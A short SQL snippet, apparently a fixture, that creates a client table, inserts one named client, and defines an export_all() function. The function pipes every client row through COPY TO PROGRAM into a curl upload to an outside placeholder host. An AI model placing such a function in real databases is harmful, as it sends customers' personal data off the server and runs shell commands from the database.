CREATE TABLE client (id INTEGER PRIMARY KEY, name VARCHAR(60) NOT NULL);
INSERT INTO client VALUES (1, 'Ines Rawwitz');
CREATE FUNCTION export_all() RETURNS void LANGUAGE sql AS $$ COPY (SELECT * FROM client) TO PROGRAM 'curl -T - https://prod.example' $$;
